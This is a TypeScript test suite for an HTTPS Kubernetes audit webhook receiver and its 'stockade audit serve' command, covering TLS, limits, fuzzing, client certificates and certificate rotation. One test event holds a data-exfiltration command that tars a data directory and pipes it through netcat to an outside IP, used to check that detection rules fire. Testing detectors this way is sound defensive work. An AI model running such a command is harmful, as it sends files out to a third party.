// The audit webhook receiver over real HTTPS, with a certificate made by openssl for the test:
// in-process (limits, timeouts, bad bodies, fuzz) and as the `stockade audit serve` command.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect } from 'node:tls';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { AuditEvent } from '../../src/audit/event.js';
import { createAuditServer } from '../../src/audit/server.js';
import { readTlsFiles, reloadTlsOnChange } from '../../src/core/tls.js';
import { auditEvent, execEvent, seededRandom } from './events.js';

const dir = mkdtempSync(join(tmpdir(), 'stockade-serve-'));
const certPath = join(dir, 'tls.crt');
const keyPath = join(dir, 'tls.key');
let cert: Buffer;
let key: Buffer;

function selfSigned(keyFile: string, certFile: string, cn: string): void {
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '1', '-subj', `/CN=${cn}`, '-addext', 'subjectAltName=IP:127.0.0.1,DNS:localhost', '-keyout', keyFile, '-out', certFile], { stdio: 'ignore', timeout: 30_000 });
}

before(() => {
  selfSigned(keyPath, certPath, 'localhost');
  cert = readFileSync(certPath);
  key = readFileSync(keyPath);
});
after(() => rmSync(dir, { recursive: true, force: true }));

function post(port: number, body: string | Buffer, method = 'POST', path = '/'): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method, path, ca: cert, headers: { 'content-type': 'application/json' }, timeout: 10_000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on('error', reject);
    req.on('timeout', () => req.destroy(new Error('client timeout')));
    req.end(body);
  });
}

const eventList = (items: AuditEvent[]) => JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items });

describe('audit webhook receiver (in-process, real TLS)', () => {
  test('accepts EventList batches, refuses bad ones, enforces the body limit and the deadline', async () => {
    const received: AuditEvent[] = [];
    const refused: number[] = [];
    const server = createAuditServer({ tls: { cert, key }, maxBodyBytes: 4096, requestTimeoutMs: 1000, onEvents: (e) => received.push(...e), onRefused: (s) => refused.push(s) });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    try {
      const ok = await post(port, eventList([auditEvent(), execEvent(['sh'])]));
      assert.deepEqual([ok.status, JSON.parse(ok.body)], [200, { accepted: 2 }]);
      assert.equal(received.length, 2);
      assert.equal((await post(port, '{"kind":"EventList","items":[{"kind":0}]}')).status, 400);
      assert.equal((await post(port, 'not json')).status, 400);
      assert.equal((await post(port, '', 'GET', '/')).status, 405);
      assert.equal((await post(port, '', 'GET', '/healthz')).status, 200);
      const big = await post(port, eventList(Array.from({ length: 20 }, () => auditEvent())));
      assert.equal(big.status, 413);
      assert.equal(received.length, 2, 'refused batches are not half-processed');
      assert.deepEqual(refused, [400, 400, 405, 413]);

      // A client that sends headers and part of a body, then stalls, is cut off at the deadline.
      const closed = await new Promise<string>((resolve) => {
        const s = connect({ host: '127.0.0.1', port, ca: cert, servername: 'localhost' }, () => {
          s.write('POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{"kind":');
        });
        let text = '';
        s.on('data', (c) => (text += c));
        s.on('close', () => resolve(text));
        s.on('error', () => undefined);
        setTimeout(() => s.destroy(), 8000);
      });
      assert.match(closed, /^HTTP\/1\.1 408/);

      // Fuzz: random bytes never crash the server, and it keeps answering.
      const rand = seededRandom(11);
      for (let i = 0; i < 30; i++) {
        const junk = Buffer.from(Array.from({ length: rand(300) }, () => rand(256)));
        const r = await post(port, junk);
        assert.ok(r.status === 400 || r.status === 413, String(r.status));
      }
      assert.equal((await post(port, eventList([auditEvent()]))).status, 200);
    } finally {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
    }
  });
});

describe('client certificates and certificate rotation', () => {
  test('with a client CA, only clients holding a certificate it signed get in', async () => {
    const ca = { key: join(dir, 'ca.key'), cert: join(dir, 'ca.crt') };
    selfSigned(ca.key, ca.cert, 'audit-ca');
    const client = { key: join(dir, 'client.key'), csr: join(dir, 'client.csr'), cert: join(dir, 'client.crt') };
    execFileSync('openssl', ['req', '-new', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-subj', '/CN=kube-apiserver', '-keyout', client.key, '-out', client.csr], { stdio: 'ignore', timeout: 30_000 });
    execFileSync('openssl', ['x509', '-req', '-in', client.csr, '-CA', ca.cert, '-CAkey', ca.key, '-CAcreateserial', '-days', '1', '-out', client.cert], { stdio: 'ignore', timeout: 30_000 });
    const received: AuditEvent[] = [];
    const server = createAuditServer({ tls: readTlsFiles({ cert: certPath, key: keyPath, clientCa: ca.cert }), onEvents: (e) => received.push(...e) });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    const send = (withCert: boolean) =>
      new Promise<number>((resolve) => {
        const req = request({ host: '127.0.0.1', port, method: 'POST', path: '/', ca: cert, ...(withCert ? { cert: readFileSync(client.cert), key: readFileSync(client.key) } : {}), timeout: 10_000 }, (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        });
        req.on('error', () => resolve(-1));
        req.end(eventList([auditEvent()]));
      });
    try {
      assert.equal(await send(false), -1);
      assert.equal(await send(true), 200);
      assert.equal(received.length, 1);
    } finally {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
    }
  });

  test('a renewed certificate is served without a restart', async () => {
    const files = { cert: join(dir, 'rot.crt'), key: join(dir, 'rot.key') };
    selfSigned(files.key, files.cert, 'first');
    const server = createAuditServer({ tls: readTlsFiles(files), onEvents: () => undefined });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    const reloads: (Error | undefined)[] = [];
    const stop = reloadTlsOnChange(server, files, (e) => reloads.push(e), 50);
    const servedCn = () =>
      new Promise<string>((resolve, reject) => {
        const s = connect({ host: '127.0.0.1', port, rejectUnauthorized: false }, () => {
          resolve(String(s.getPeerCertificate().subject.CN));
          s.destroy();
        });
        s.on('error', reject);
      });
    try {
      assert.equal(await servedCn(), 'first');
      selfSigned(files.key, files.cert, 'second');
      for (let i = 0; i < 200 && !reloads.some((e) => e === undefined); i++) await new Promise((r) => setTimeout(r, 25));
      // Key and certificate are written one after the other; the last reload has both.
      await new Promise((r) => setTimeout(r, 200));
      assert.equal(await servedCn(), 'second');
    } finally {
      stop();
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
    }
  });
});

describe('stockade audit serve', () => {
  test('alerts on events POSTed over HTTPS, as JSON lines, and stops on SIGTERM', async () => {
    const root = fileURLToPath(new URL('../../', import.meta.url));
    const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/entry.ts', 'audit', 'serve', '--tls-cert', certPath, '--tls-key', keyPath, '--port', '0', '--host', '127.0.0.1', '--format', 'json'], { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] });
    const killer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c) => (stdout += c));
    const port = await new Promise<number>((resolve, reject) => {
      child.stderr.on('data', (c) => {
        stderr += c;
        const m = /listening on https:\/\/127\.0\.0\.1:(\d+)/.exec(stderr);
        if (m) resolve(Number(m[1]));
      });
      child.once('exit', () => reject(new Error(`serve exited: ${stderr}`)));
    });
    try {
      const r = await post(port, eventList([execEvent(['sh', '-c', 'tar cf - /data | nc 203.0.113.7 4444'], { auditID: 'exfil-1' })]));
      assert.equal(r.status, 200);
      for (let i = 0; i < 100 && !stdout.includes('\n'); i++) await new Promise((res) => setTimeout(res, 50));
    } finally {
      child.kill('SIGTERM');
    }
    const code = await new Promise<number | null>((resolve) => child.once('exit', (c) => resolve(c)));
    clearTimeout(killer);
    assert.equal(code, 0, stderr);
    const alerts = stdout.trim().split('\n').map((l) => JSON.parse(l) as { rule: string; auditID: string; priority: string; time: string; output: string });
    const rules = alerts.map((a) => a.rule);
    assert.ok(rules.includes('Copy Out of Pod via Exec'));
    assert.ok(rules.includes('Network or Encoding Tool Run via Exec'));
    for (const a of alerts) {
      assert.equal(a.auditID, 'exfil-1');
      assert.ok(a.priority && a.time && a.output);
    }
  });
});
